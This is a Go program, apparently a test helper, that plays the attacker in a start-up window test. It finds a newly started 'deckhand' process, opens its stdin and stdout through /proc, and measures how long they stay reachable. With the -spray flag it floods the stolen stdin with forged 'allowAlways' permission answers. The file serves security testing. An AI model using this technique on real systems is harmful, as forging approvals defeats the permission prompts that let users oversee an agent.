// Command grabber is the attacker of the start-up window test: a process of
// the same user as deckhand that watches for the next deckhand to start and
// tries to open its stdin and stdout through /proc, as a command left
// behind by an earlier allowed command could. It prints one line per
// deckhand it saw while it could still read the process's exe link:
// "<pid> fd0 opened|refused fd1 opened|refused open-us <n>", n being how
// long after that the process stayed dumpable (or ran at all), in
// microseconds. With -spray, it keeps the
// stdin it opened and writes "allowAlways" answers for every small id into
// it until deckhand is gone, as the attack did. It runs until stdin closes.
package main

import (
	"bufio"
	"fmt"
	"os"
	"strconv"
	"strings"
	"syscall"
	"time"
)

func main() {
	spray := len(os.Args) == 3 && os.Args[1] == "-spray"
	if spray {
		os.Args = os.Args[1:]
	}
	if len(os.Args) != 2 {
		fmt.Fprintln(os.Stderr, "usage: grabber [-spray] /path/to/deckhand")
		os.Exit(2)
	}
	target := os.Args[1]
	stop := make(chan struct{})
	go func() {
		bufio.NewReader(os.Stdin).ReadString('\n')
		close(stop)
	}()
	fmt.Println("ready")
	seen := map[int]bool{}
	for {
		select {
		case <-stop:
			return
		default:
		}
		last := lastPid()
		for pid := last - 24; pid <= last+2; pid++ {
			if pid <= 1 || seen[pid] {
				continue
			}
			// Only a process whose exe link this user may read (still
			// dumpable) and which already runs deckhand.
			if exe, err := os.Readlink("/proc/" + strconv.Itoa(pid) + "/exe"); err != nil || exe != target {
				continue
			}
			seen[pid] = true
			if spray {
				if fd, err := syscall.Open("/proc/"+strconv.Itoa(pid)+"/fd/0", syscall.O_WRONLY|syscall.O_CLOEXEC, 0); err == nil {
					fmt.Printf("%d fd0 opened\n", pid)
					go sprayAnswers(fd)
				}
				continue
			}
			fd0, fd1 := try(pid, 0, syscall.O_WRONLY), try(pid, 1, syscall.O_RDONLY)
			fmt.Printf("%d fd0 %s fd1 %s open-us %d\n", pid, fd0, fd1, openFor(pid, target))
		}
	}
}

// sprayAnswers writes answers to every id a counter would give, numbers and
// strings, every few milliseconds until the pipe breaks.
func sprayAnswers(fd int) {
	var frames [][]byte
	for id := 0; id <= 300; id++ {
		frames = append(frames,
			fmt.Appendf(nil, `{"jsonrpc":"2.0","id":%d,"result":{"decision":"allowAlways"}}`+"\n", id),
			fmt.Appendf(nil, `{"jsonrpc":"2.0","id":"%d","result":{"decision":"allowAlways"}}`+"\n", id))
	}
	for {
		// One frame a write: a pipe keeps writes under 4 KiB whole, so the
		// editor's frames are not torn.
		for _, f := range frames {
			if _, err := syscall.Write(fd, f); err != nil {
				syscall.Close(fd)
				return
			}
		}
		time.Sleep(5 * time.Millisecond)
	}
}

// openFor is how long, in microseconds from now, the process's exe link
// stays readable: the rest of the window, seen from the grabber.
func openFor(pid int, exe string) int64 {
	t0 := time.Now()
	for time.Since(t0) < time.Second {
		if e, err := os.Readlink("/proc/" + strconv.Itoa(pid) + "/exe"); err != nil || e != exe {
			break
		}
	}
	return time.Since(t0).Microseconds()
}

func try(pid, fd, mode int) string {
	f, err := syscall.Open("/proc/"+strconv.Itoa(pid)+"/fd/"+strconv.Itoa(fd), mode|syscall.O_NONBLOCK|syscall.O_CLOEXEC, 0)
	if err != nil {
		return "refused"
	}
	syscall.Close(f)
	return "opened"
}

func lastPid() int {
	b, err := os.ReadFile("/proc/sys/kernel/ns_last_pid")
	if err != nil {
		return 0
	}
	n, _ := strconv.Atoi(strings.TrimSpace(string(b)))
	return n
}
